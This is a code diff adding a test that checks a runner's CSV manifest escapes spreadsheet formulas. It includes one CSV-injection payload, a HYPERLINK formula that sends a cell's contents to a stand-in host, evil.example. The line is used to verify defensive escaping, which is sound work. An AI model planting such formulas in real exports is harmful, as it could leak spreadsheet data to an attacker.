@@ -151,3 +151,16 @@ def test_a_killed_runner_resumes_without_losing_or_repeating_work(tmp_path):
     assert [v.run_id for v in manifest.variants] == list(recorded.values())
     with sqlite3.connect(tmp_path / "home" / "state.db") as db:
         assert db.execute("SELECT count(*) FROM runs").fetchone()[0] == 4
+
+
+def test_an_axis_value_a_spreadsheet_would_run_is_written_as_text(tmp_path, local):
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    spec = {**SPEC, "name": "csv", "axes": {"product": [formula, "-1+2", "a blue ball"]},
+            "template": "{product}", "copy": None, "formats": SPEC["formats"][:1],
+            "loop": {**SPEC["loop"], "candidates": 1}}
+    run(parse_spec(spec), local, out=tmp_path / "out")
+
+    rows = list(csv.DictReader(io.StringIO((tmp_path / "out" / "csv" / "manifest.csv")
+                                           .read_text())))
+    assert sorted(r["product"] for r in rows) == ["'-1+2", "'" + formula, "a blue ball"]
+    assert all(not cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r.values())
